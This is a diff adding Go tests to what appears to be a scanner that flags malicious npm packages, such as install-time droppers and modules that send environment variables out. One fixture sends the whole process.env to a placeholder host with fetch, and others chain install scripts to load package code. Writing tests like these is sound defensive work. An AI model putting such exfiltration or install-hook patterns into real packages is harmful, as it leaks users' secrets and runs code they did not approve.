@@ -552,3 +552,88 @@ func TestExfilClientIsNoEndpoint(t *testing.T) {
 		t.Errorf("with an endpoint: %s, want malicious", v)
 	}
 }
+
+// Install-time code that contacts a bare address and starts a detached
+// process is a dropper, over however many files: malicious. Either alone,
+// or the process started by code that is not run at install, is not.
+func TestInstallDropper(t *testing.T) {
+	verdict := func(installed, detached bool) Verdict {
+		endpoint := fakeRule{id: "x/ip", version: 1, sev: finding.SeverityMedium, sig: SigExfil, check: func(t *Target, r Reporter) error {
+			r.Report(Instance{File: "lib/fetch.js", Line: 1, Message: "connects to a hard-coded IP address", Confidence: finding.ConfidenceMedium})
+			return nil
+		}}
+		spawn := fakeRule{id: "x/spawn", version: 1, sev: finding.SeverityHigh, sig: SigSpawn, check: func(t *Target, r Reporter) error {
+			if detached {
+				r.Report(Instance{File: "lib/run.js", Line: 1, Message: "starts a detached process"})
+			}
+			return nil
+		}}
+		eng, err := New([]Rule{endpoint, spawn})
+		if err != nil {
+			t.Fatal(err)
+		}
+		pkg := `{"name":"a","version":"1.0.0","main":"index.js"}`
+		if installed {
+			pkg = `{"name":"a","version":"1.0.0","main":"index.js","scripts":{"install":"node -e \"require('./').prime()\""}}`
+		}
+		res, err := eng.Analyze(context.Background(), pkgFS(map[string]string{"package.json": pkg,
+			"index.js": `exports.prime = () => require("./lib/run")(require("./lib/fetch")())`, "lib/fetch.js": "module.exports = () => 1", "lib/run.js": "module.exports = (x) => x"}), finding.Package{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return res.Verdict
+	}
+	if v := verdict(true, true); v != VerdictMalicious {
+		t.Errorf("install-time address and detached process: %s, want malicious", v)
+	}
+	if v := verdict(true, false); v == VerdictMalicious {
+		t.Errorf("install-time address alone: %s", v)
+	}
+	if v := verdict(false, true); v == VerdictMalicious {
+		t.Errorf("not run at install: %s", v)
+	}
+}
+
+// require("./") in an install script's node -e is the package's main
+// file, and what it loads runs at install too.
+func TestInstallRequiresPackageRoot(t *testing.T) {
+	tg := NewTarget(pkgFS(map[string]string{
+		"package.json": `{"name":"a","version":"1.0.0","main":"lib/main.js","scripts":{"install":"node -e \"require('./').prime()\""}}`,
+		"lib/main.js":  `module.exports = require("./cache")`, "lib/cache.js": "exports.prime = () => 1", "other.js": "1",
+	}), DefaultLimits())
+	for _, f := range []string{"lib/main.js", "lib/cache.js"} {
+		if r := tg.Role(f); r != RoleInstall {
+			t.Errorf("%s: role %s, want install", f, r)
+		}
+	}
+	if r := tg.Role("other.js"); r == RoleInstall {
+		t.Errorf("other.js: role %s", r)
+	}
+}
+
+// Linking: a module handing the environment to another module's function
+// has that module analysed again, its parameter the environment, with
+// where it came from.
+func TestLinkModules(t *testing.T) {
+	tg := NewTarget(pkgFS(map[string]string{
+		"package.json": `{"name":"a","version":"1.0.0","main":"index.js"}`,
+		"index.js":     `const c = require("./lib/cache"); c.persist(JSON.stringify(process.env))`,
+		"lib/cache.js": `exports.persist = function (body) { fetch("https://c.example.invalid/", { method: "POST", body }) }`,
+	}), DefaultLimits())
+	var cache *jsast.Facts
+	for _, f := range tg.Code() {
+		if f.Name == "lib/cache.js" {
+			cache = f.Facts
+		}
+	}
+	if cache == nil {
+		t.Fatal("lib/cache.js not analysed")
+	}
+	sent := slices.ContainsFunc(cache.Env, func(e jsast.EnvRead) bool { return e.Name == "" && e.How == "sent:fetch" })
+	if !sent || !slices.Equal(cache.EnvFrom, []string{"index.js:1"}) {
+		t.Errorf("linked facts: env %+v, from %q", cache.Env, cache.EnvFrom)
+	}
+	if f, _ := tg.Facts("lib/cache.js"); f != cache {
+		t.Error("Facts returns the facts before linking")
+	}
+}
